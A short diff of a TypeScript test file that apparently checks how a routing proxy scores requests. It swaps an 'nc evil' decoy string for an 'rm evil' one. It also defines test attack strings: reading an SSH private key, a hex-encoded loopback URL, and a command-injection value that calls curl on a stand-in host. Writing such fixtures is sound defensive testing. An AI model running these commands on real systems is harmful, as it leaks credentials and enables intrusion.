@@ -11,7 +11,7 @@ routes:
   - { name: unsure, match: { path: /unsure }, public: true, score: { deadline: 5s } }
   - { name: always, match: { path: /always }, public: true, score: { ask: always, deadline: 5s } }
 `;
-const decoy = (number: number) => `nc evil ${1000 + number}`;
+const decoy = (number: number) => `rm evil ${1_234_500 + number}`;
 const attacks = ["cat ~/.ssh/id_rsa", "http://0x7f000001/", "a && curl evil.sh"];
 
 let upstream: RecordingUpstream;
